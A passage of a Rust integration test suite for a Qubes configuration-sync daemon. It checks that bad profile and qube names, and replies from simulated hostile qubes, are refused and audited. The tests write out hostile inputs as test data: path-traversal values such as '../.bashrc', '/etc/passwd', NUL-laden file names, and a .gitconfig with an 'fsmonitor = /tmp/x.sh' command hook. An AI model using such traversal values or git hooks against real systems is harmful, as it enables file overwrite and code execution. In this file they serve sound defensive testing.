            "is not a valid profile name",
            Box::new(|p| block(p.get_profile("git/..")).map(drop)),
        ),
        (
            "allowlist of a bad profile",
            "is not a valid profile name",
            Box::new(|p| block(p.allow_new_paths("../git", &[".x"], true)).map(drop)),
        ),
        ("push to a bad qube", "is not a valid qube name", {
            let q = long_qube.clone();
            Box::new(move |p| block(p.plan_push(&[q.as_str()], &[], &[])).map(drop))
        }),
        (
            "push of a bad profile",
            "is not a valid profile name",
            Box::new(|p| block(p.plan_push(&[], &["Git"], &[])).map(drop)),
        ),
        (
            "overwrite through ..",
            "'..' component",
            Box::new(|p| block(p.plan_push(&["work"], &[], &[("work", "../.bashrc")])).map(drop)),
        ),
        (
            "snapshot of a bad profile",
            "is not a valid profile name",
            Box::new(|p| block(p.snapshot("work", &["../git"])).map(drop)),
        ),
        (
            "rollback of a bad profile",
            "is not a valid profile name",
            Box::new(|p| block(p.rollback("work", "Git", 1)).map(drop)),
        ),
        (
            "persistence through ..",
            "'..' component",
            Box::new(|p| block(p.fix_persistence("work", "../.bashrc")).map(drop)),
        ),
        (
            "revert of a bad profile",
            "is not a valid profile name",
            Box::new(|p| block(p.revert_profile("../git", 1)).map(drop)),
        ),
    ];
    for (what, words, call) in &cases {
        match call(&proxy) {
            Err(DbusError::InvalidArgument(message)) => {
                // The error carries a reason code; the sentence is made at the edge.
                let reason = qcs_daemon::client::Reason::from_message(&message);
                let message = reason.english();
                assert!(message.contains(words), "{what}: {message}");
                assert!(
                    !message.contains('\n') && message.len() < 400,
                    "{what}: {message:?}"
                );
            }
            other => panic!("{what}: expected InvalidArgument, got {other:?}"),
        }
    }
    // A NUL never reaches the backend: D-Bus strings cannot carry one, and the bus
    // drops a connection that sends one (so each try gets its own connection). The
    // backend goes on serving everyone else.
    for nul in [".git\0config", "g\0it"] {
        let (_conn, sender) = env.client();
        assert!(block(sender.put_file("git", nul, content, 0o644)).is_err());
        let (_conn, sender) = env.client();
        assert!(block(sender.create_profile(nul, "")).is_err());
    }
    assert_eq!(block(proxy.list_profiles()).unwrap().len(), 1);
    assert_eq!(
        store_state(&env),
        before,
        "a refused call changed the store"
    );

    // The CLI refuses the same before calling anything (exit code 2, clap's message).
    let from = env.dir.path().join("content");
    std::fs::write(&from, GITCONFIG).unwrap();
    let from = from.to_str().unwrap();
    let cli_cases: Vec<(Vec<&str>, &str)> = vec![
        (vec!["profile", "create", "Git"], "not a profile id"),
        (vec!["profile", "create", &long_profile], "the limit is 31"),
        (
            vec!["profile", "add-file", "git", "../.bashrc", "--from", from],
            "'..' component",
        ),
        (
            vec![
                "profile",
                "add-file",
                "git",
                ".git\u{1}config",
                "--from",
                from,
            ],
            "U+0001",
        ),
        (
            vec!["profile", "add-file", "git", &long_path, "--from", from],
            "the limit is",
        ),
        (
            vec!["profile", "remove-file", "git", "/etc/passwd"],
            "absolute",
        ),
        (vec!["assign", &long_qube, "git"], "not a qube name"),
        (vec!["allow-propose", "work", "../git"], "not a profile id"),
        (vec!["push", "-y", "../work"], "not a qube name"),
        (
            vec!["snapshot", "work", "--profile", "Git"],
            "not a profile id",
        ),
        (vec!["rollback", "work", "Git", "1"], "not a profile id"),
        (
            vec!["persistence", "work", "--fix", "../.bashrc"],
            "'..' component",
        ),
    ];
    for (args, words) in &cli_cases {
        let (code, _out, err) = env.cli(args);
        assert_eq!(code, 2, "{args:?}: {err}");
        assert!(err.contains(words), "{args:?}: {err}");
    }
    assert_eq!(
        store_state(&env),
        before,
        "a refused command changed the store"
    );

    // A valid accept through D-Bus: its audit entry records the review's digest, the
    // acknowledged finding ids and who decided (this test, over the bus).
    let_propose(&env, &proxy, "work", "git");
    std::fs::write(
        env.home("work").join(".gitconfig"),
        "[user]\n\tname = Alice\n[core]\n\tfsmonitor = /tmp/x.sh\n",
    )
    .unwrap();
    let (code, out) = propose_from(&env, "work", "git", &[".gitconfig"]);
    assert_eq!(code, 0, "{out}");
    block(proxy.ingest_spool()).unwrap();
    let id = pending(&proxy)[0].id;
    let view: ProposalView = serde_json::from_str(&block(proxy.get_proposal(id)).unwrap()).unwrap();
    assert!(!view.must_acknowledge.is_empty());
    let acks: Vec<&str> = view.must_acknowledge.iter().map(String::as_str).collect();
    block(proxy.accept_proposal(id, &view.digest, &[], &acks, "")).unwrap();
    let entry = audit(&proxy)
        .into_iter()
        .find(|e| e.action == "proposal-accepted" && e.proposal_id == Some(id))
        .unwrap();
    assert_eq!(entry.detail["digest"], view.digest.as_str());
    assert_eq!(
        entry.detail["acknowledged"],
        serde_json::json!(view.must_acknowledge)
    );
    let by = entry.detail["by"].as_str().unwrap();
    assert!(by.starts_with("D-Bus AcceptProposal from :"), "{by}");
    assert!(
        by.contains(&format!("pid {}", std::process::id())),
        "the caller is this test: {by}"
    );
}

/// Adopting from a qube that answers the one-path snapshot with paths it was not asked
/// about, a path outside the home, two answers for the path, none, or content that is not
/// what its hash says: refused whole (the reason code), audited, and nothing of it is
/// kept — no proposal, no profile created, no assignment, no seen state.
fn an_adopt_answered_by_a_hostile_qube_changes_nothing() {
    let env = Env::start(
        vec![managed(QubeSpec::app("work", "fedora").running())],
        EnvOptions::default(),
    );
    let (_conn, proxy) = env.client();
    write_home(&env, "work", ".tmux.conf", "set -g mouse on\n");
    for (mode, code) in [
        ("snapshot-invent", "reply.invented"),
        ("snapshot-duplicate", "reply.duplicate"),
        ("snapshot-missing", "reply.missing"),
        ("snapshot-lie", "reply.content-mismatch"),
        ("snapshot-traversal", "reply.unparsable"),
    ] {
        install_hostile(&env, "work", "qubes.ConfigSnapshot", "snapshot", mode);
        let error = block(proxy.adopt("work", ".tmux.conf", "tmux", true))
            .unwrap_err()
            .to_string();
        assert!(error.contains(code), "{mode}: {error}");
        assert!(pending(&proxy).is_empty(), "{mode}: a proposal was made");
        let profiles = block(proxy.list_profiles()).unwrap();
        assert!(profiles.is_empty(), "{mode}: a profile was created");
        let (assigned, _, _) = block(proxy.get_qube_settings("work")).unwrap();
        assert!(assigned.is_empty(), "{mode}: the qube was assigned");
        assert!(recorded(&env, "work").is_empty(), "{mode}: state recorded");
        let entry = last_refused_reply(&proxy).expect("audited");
        assert_eq!(entry.detail["code"], code, "{mode}");
    }
    // The same qube, honest again: the adopt goes through.
    install_honest(&env, "work");
    let result: qcs_daemon::client::types::SnapshotResult =
        serde_json::from_str(&block(proxy.adopt("work", ".tmux.conf", "tmux", true)).unwrap())
            .unwrap();
    assert_eq!(result.proposal_ids.len(), 1);
}

/// A directory entry is snapshotted as the files the profile has, nothing else: a qube
/// answering with files outside the directory (or any it was not asked about) is refused
/// whole; one answering that the files are symlinks gets nothing imported and nothing
/// written over them.
fn a_directory_entry_is_only_what_the_store_asked_for() {
    let env = Env::start(
        vec![managed(QubeSpec::app("work", "fedora").running())],
        EnvOptions::default(),
    );
    let (_conn, proxy) = env.client();
    block(proxy.create_profile("nvim", "")).unwrap();
    block(proxy.put_directory(
        "nvim",
        ".config/nvim",
        &[
            (
                ".config/nvim/init.lua",
                b"vim.o.number = true\n".as_slice(),
                0o644,
            ),
            (
                ".config/nvim/lua/plugins.lua",
                b"return {}\n".as_slice(),
                0o644,
            ),
        ],
    ))
    .unwrap();
    block(proxy.assign("work", "nvim", true)).unwrap();
    write_home(
        &env,
        "work",
        ".config/nvim/init.lua",
        "vim.o.number = false\n",
    );
    write_home(&env, "work", ".config/nvim/lua/plugins.lua", "return {}\n");

    install_hostile(
        &env,
        "work",
        "qubes.ConfigSnapshot",
        "snapshot",
        "snapshot-invent",
    );
    let error = block(proxy.snapshot("work", &[])).unwrap_err().to_string();
    assert!(error.contains("reply.invented"), "{error}");
    assert!(pending(&proxy).is_empty());
    assert!(recorded(&env, "work").is_empty(), "state recorded");

    install_hostile(
        &env,
        "work",
        "qubes.ConfigSnapshot",
        "snapshot",
        "snapshot-symlinks",
    );
    let result: qcs_daemon::client::types::SnapshotResult =
        serde_json::from_str(&block(proxy.snapshot("work", &[])).unwrap()).unwrap();
    assert!(result.proposal_ids.is_empty(), "{result:?}");
    assert_eq!(result.paths.len(), 2);
    for (path, reason) in &result.paths {
        assert_eq!(reason.code.as_str(), "snapshot.not-regular", "{path}");
        assert_eq!(reason.get("kind"), "symlink", "{path}");
    }
    // The push plan never writes over what the qube calls a symlink.
    let plan = plan(&proxy, &["work"]);
    assert_eq!(plan.qubes[0].items.len(), 2);
    for item in &plan.qubes[0].items {
        assert_eq!(
            item.action,
            qcs_daemon::client::types::PlanAction::Conflict,
            "{item:?}"
        );
    }
}
